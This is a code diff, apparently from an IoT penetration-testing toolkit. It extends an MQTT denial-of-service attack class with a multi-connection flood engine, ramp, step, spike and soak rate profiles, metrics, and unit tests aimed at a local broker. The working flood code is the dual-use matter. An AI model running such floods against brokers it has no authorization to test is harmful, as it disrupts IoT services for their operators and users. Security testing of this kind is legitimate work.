@@ -9,9 +9,12 @@ import unittest
 
 import paho.mqtt.client as paho
 
+from Entity import metrics
 from Entity.attack import Attack
 from Entity.input_format import InputFormat
 from Utils.RandomUtil import random_generated_names
+from Utils.RateUtil.rate_limiter import RateLimiter, create_profile
+from protocols.MQTT.mqtt_flood_engine import MQTTFloodEngine
 
 
 class MQTTDoSAttack(Attack):
@@ -28,27 +31,43 @@ class MQTTDoSAttack(Attack):
     username = None
     password = None
     timeout = 0.01
+    connection_count = 0  # Zero means single paho client, otherwise flood engine with that many connections
+    target_rate = 0.0  # Aggregate messages per second for flood engine, zero means as fast as possible
+    rate_profile = ""  # Overrides timeout and target rate, e.g. ramp:0:20000:60
     stopped_flag = False  # This flag will help us for a smooth exit
 
     # Misc Members
     logger = None
+    flood_engine = None
+    rate_limiter = None
     published_message_count = 0
+    report_interval = 1.0
 
     def __init__(self):
-        default_parameters = ["127.0.0.1", "#", "", "", "", 10.0]
+        default_parameters = ["127.0.0.1", "#", "", "", "", 10.0, 0, 0.0, ""]
         inputs = [
             InputFormat("Broker Address", "host", "", str, mandatory=True),
             InputFormat("Topic Name", "topic", self.topic, str, mandatory=True),
             InputFormat("Username", "username", "", str, mandatory=True),
             InputFormat("Password", "password", "", str, mandatory=True, secret=True),
             InputFormat("Message", "message", "", str, mandatory=True),
-            InputFormat("Timeout", "timeout", self.timeout, float)
+            InputFormat("Timeout", "timeout", self.timeout, float),
+            InputFormat("Connection Count", "connection_count", self.connection_count, int),
+            InputFormat("Target Rate (msgs/s)", "target_rate", self.target_rate, float),
+            InputFormat("Rate Profile", "rate_profile", self.rate_profile, str)
         ]
 
         Attack.__init__(self, "MQTT DoS Attack", inputs, default_parameters,
                         "    We publish messages to MQTT broker.\n"
                         "    The time difference between messages\n"
-                        "    can be specified.")
+                        "    can be specified. If connection count\n"
+                        "    is given, messages are flooded over that\n"
+                        "    many connections with the target rate.\n"
+                        "    Rate profile can be a constant rate or\n"
+                        "    ramp:<start>:<end>:<ramp duration>,\n"
+                        "    step:<start>:<step>:<step duration>[:<max>],\n"
+                        "    spike:<base>:<spike>:<period>:<spike duration>\n"
+                        "    or soak:<rate>:<duration>.")
 
         logging.basicConfig(level=logging.DEBUG, format="%(asctime)s:%(levelname)s:%(name)s:%(message)s")
 
@@ -59,9 +78,13 @@ class MQTTDoSAttack(Attack):
         self.stop_attack()
 
     def stop_attack(self):
+        if self.flood_engine is not None:
+            self.flood_engine.stop()
+            self.published_message_count = self.flood_engine.sent_message_count
         self.logger.info("Published message count: {0}, exitting...".format(self.published_message_count))
         if self.stopped_flag is False:  # Stop the attack
-            self.client.loop_stop()
+            if self.client is not None:
+                self.client.loop_stop()
             self.stopped_flag = True
         if self.client is not None:
             self.client.disconnect()  # Close the connection before exitting
@@ -72,35 +95,77 @@ class MQTTDoSAttack(Attack):
         self.client = paho.Client(random_generated_names.get_random_client_name())
         self.client.connect(self.host)
 
+    def run_flood_engine(self):
+        """
+        Flood the broker over multiple connections with pre-encoded PUBLISH frames
+        """
+        self.rate_limiter = RateLimiter(create_profile(self.rate_profile, self.target_rate))
+        self.flood_engine = MQTTFloodEngine(self.host, self.topic, self.message,
+                                            connection_count=self.connection_count, target_rate=self.target_rate,
+                                            username=self.username, password=self.password, retain=True,
+                                            metrics=self.metrics, rate_limiter=self.rate_limiter)
+        try:
+            self.flood_engine.run()
+        except Exception as e:
+            self.logger.error("Flood engine is stopped: {0}".format(e))
+        finally:
+            self.flood_engine.close()
+        self.published_message_count = self.flood_engine.sent_message_count
+        self.logger.info("Published message count = {0}, achieved rate = {1:.1f} msgs/s.".format(
+            self.published_message_count, self.flood_engine.get_achieved_rate()))
+        self.metrics.finish()
+        self.stopped_flag = True
+
     def run(self):
         Attack.run(self)
+
+        if self.message is None or len(self.message.strip()) == 0:
+            self.message = ''.join(random.choice(string.ascii_uppercase + string.digits) for _ in range(50))
+        if self.connection_count > 0:
+            self.run_flood_engine()
+            return
+
         self.pre_attack_init()
+        # Timeout between messages is used as the rate unless a rate profile is given
+        self.rate_limiter = RateLimiter(create_profile(self.rate_profile, 1. / self.timeout if self.timeout > 0 else 0))
 
         # Start client loop for requests
         self.published_message_count = 0
+        messages_sent = self.metrics.counter(metrics.MESSAGES_SENT, "Published MQTT messages")
+        bytes_sent = self.metrics.counter(metrics.BYTES_SENT, "Sent payload bytes")
+        errors = self.metrics.counter(metrics.ERRORS, "Failed publish attempts")
 
         self.client.loop_start()
 
-        if self.message is None or len(self.message.strip()) == 0:
-            self.message = ''.join(random.choice(string.ascii_uppercase + string.digits) for _ in range(50))
+        self.rate_limiter.start()
+        next_report_time = time.time() + self.report_interval
         while self.stopped_flag is False:  # If we don't check this, GUI goes back but a separate thread keeps sending MQTT messages
+            # Wait in short slices so that the stop flag is still checked at low rates
+            if not self.rate_limiter.acquire(max_wait=0.1):
+                if self.rate_limiter.is_finished():
+                    break
+                continue
             try:
                 self.published_message_count += 1
                 if self.username is None:  # Authentication not required
                     self.client.publish(self.topic, self.message, retain=True)
-                    self.logger.info(
-                        "Sent message count = {0} with topic = {1}.".format(self.published_message_count, self.topic))
                 else:  # Authentication required
                     # TODO Handle authentication after getting inputs
                     self.client.publish(self.topic, self.message, retain=True)
+                messages_sent.inc()
+                bytes_sent.inc(len(self.message))
+                # Progress is logged periodically, logging every message would limit the achievable rate
+                if time.time() >= next_report_time:
                     self.logger.info(
                         "Sent message count = {0} with topic = {1}.".format(self.published_message_count, self.topic))
-                time.sleep(self.timeout)
+                    next_report_time = time.time() + self.report_interval
             except Exception as e:
+                errors.inc()
                 self.logger.debug(sys.exc_info()[0])
                 break
 
         self.client.loop_stop()
+        self.metrics.finish()
         self.stopped_flag = True
 
 
@@ -118,7 +183,7 @@ class TestMQTTDoSAttack(unittest.TestCase):
         inputs = self.mqtt_dos_attack.get_inputs()
         self.assertIsNotNone(inputs)
         self.assertGreater(len(inputs), 0, "Non inserted inputs")
-        self.assertEquals(len(inputs), 6)
+        self.assertEquals(len(inputs), 9)
 
     def test_non_initialized_inputs(self):
         inputs = self.mqtt_dos_attack.get_inputs()
@@ -127,7 +192,8 @@ class TestMQTTDoSAttack(unittest.TestCase):
             self.assertTrue(value is None or type(value) == _input.get_type())
 
     def test_after_getting_inputs(self):
-        example_inputs = ["a.b.c.d", "peNiOt", "pen-user", "pen-pass", "peniot-payload", 13.2]
+        example_inputs = ["a.b.c.d", "peNiOt", "pen-user", "pen-pass", "peniot-payload", 13.2, 4, 2000.0,
+                          "ramp:0:2000:10"]
         for index, _input in enumerate(example_inputs):
             self.mqtt_dos_attack.inputs[index].set_value(_input)
 
@@ -143,7 +209,24 @@ class TestMQTTDoSAttack(unittest.TestCase):
 
     def test_dos_attack(self):
         def run_attack():
-            example_inputs = ["127.0.0.1", "peniot/test", None, None, "peniot-pay", 0.01]
+            example_inputs = ["127.0.0.1", "peniot/test", None, None, "peniot-pay", 0.01, 0, 0.0, ""]
+            for index, _input in enumerate(example_inputs):
+                self.mqtt_dos_attack.inputs[index].set_value(_input)
+
+            self.mqtt_dos_attack.run()
+
+        print "* If server is not initialized this test will not execute properly."
+        p = multiprocessing.Process(target=run_attack, name="DoS Attack")
+        p.start()
+        time.sleep(5)
+        if p.is_alive():
+            p.terminate()
+            p.join()
+
+    def test_flood_engine_attack(self):
+        def run_attack():
+            example_inputs = ["127.0.0.1", "peniot/test", None, None, "peniot-pay", 0.01, 4, 5000.0,
+                              "ramp:1000:5000:2"]
             for index, _input in enumerate(example_inputs):
                 self.mqtt_dos_attack.inputs[index].set_value(_input)
 